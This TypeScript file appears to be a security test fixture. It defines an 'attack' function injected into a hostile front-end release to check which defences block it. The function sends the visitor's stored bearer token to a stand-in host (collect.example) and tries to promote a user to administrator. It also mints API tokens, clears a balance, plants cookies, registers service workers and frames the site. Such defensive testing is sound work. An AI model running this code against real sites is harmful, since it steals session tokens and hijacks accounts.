/** Facts about the attacked site for a hostile release. */
export type Target = {
  /** Origin of the site itself. */
  readonly site: string;
  /** A script of the release that could be a service worker. */
  readonly worker: string;
  readonly admin: { readonly email: string; readonly password: string };
  /** A pupil whom the release tries to make an administrator. */
  readonly pupil: number;
};

/** Result of each attempt: the loot, or the name of the error. */
export type Loot = Readonly<Record<string, string>>;

/** The attack stores the promise of its results here, where the test reads it. */
declare global {
  interface Window {
    loot?: Promise<Loot>;
  }
}

/** Added to the entry of a release: runs in the page of a visitor, so it may use nothing outside of it. */
export async function attack({ site, worker, admin, pupil }: Target): Promise<Loot> {
  const attempt = async (act: () => unknown): Promise<string> => {
    try {
      return String(await act());
    } catch (error) {
      return `stopped: ${error instanceof Error ? error.name : error}`;
    }
  };
  const token = localStorage.getItem('token');
  const send = async (url: string, method: string, body?: object): Promise<string> => {
    const response = await fetch(url, {
      method,
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      ...(body && { body: JSON.stringify(body) }),
    });
    const text = await response.text();
    return `${response.status} ${response.ok ? text : (/"code":"(\w+)"/.exec(text)?.[1] ?? text)}`;
  };
  const frame = (): Promise<string> => {
    const element = document.createElement('iframe');
    element.src = site;
    document.documentElement.append(element);
    return new Promise((resolve) => {
      document.addEventListener('securitypolicyviolation', ({ violatedDirective }) =>
        resolve(violatedDirective),
      );
      setTimeout(() => resolve('framed'), 10_000);
    });
  };
  const framed = frame();
  const api = `${location.origin}/api`;
  const rolePath = `users/${pupil}/role?role=3`;

  // Leaves data behind for the next visitor.
  localStorage.setItem('left-behind', 'by the hostile release');
  await attempt(() => {
    for (const scope of ['', '; domain=localhost', `; domain=${location.hostname}`]) {
      // biome-ignore lint/suspicious/noDocumentCookie: as an attacker would
      document.cookie = `known=planted; path=/${scope}`;
      // biome-ignore lint/suspicious/noDocumentCookie: as an attacker would
      document.cookie = `preview=planted; path=/${scope}`;
    }
  });
  new Image().src = `https://collect.example/?token=${token}`;

  return {
    token: String(token),
    'role change': await attempt(() => send(`${api}/${rolePath}`, 'PATCH')),
    'token made': await attempt(() =>
      send(`${api}/sections/mf-news/tokens`, 'POST', { label: 'Mine' }),
    ),
    promotion: await attempt(() =>
      send(`${api}/sections/mf-news/live`, 'PUT', { version: `1.0.0-${'0'.repeat(32)}` }),
    ),
    'balance cleared': await attempt(() => send(`${api}/users/${pupil}/balance/clear`, 'POST', {})),
    'sign-in': await attempt(() => send(`${api}/auth/login`, 'POST', admin)),
    'call of the site': await attempt(() => send(`${site}/api/${rolePath}`, 'PATCH')),
    'sign-in at the site': await attempt(() => send(`${site}/api/auth/login`, 'POST', admin)),
    'page of the site': await attempt(async () => (await fetch(`${site}/profile`)).text()),
    'service worker': await attempt(async () => {
      const { scope } = await navigator.serviceWorker.register(worker);
      return scope;
    }),
    'service worker for all': await attempt(async () => {
      const { scope } = await navigator.serviceWorker.register(worker, { scope: '/' });
      return scope;
    }),
    frame: await framed,
    opener: await attempt(() => opener),
    'public call': await attempt(async () => (await fetch(`${api}/news?page=0&size=1`)).status),
    caches: await attempt(async () => {
      await caches.open('left-behind');
      return (await caches.keys()).join();
    }),
  };
}
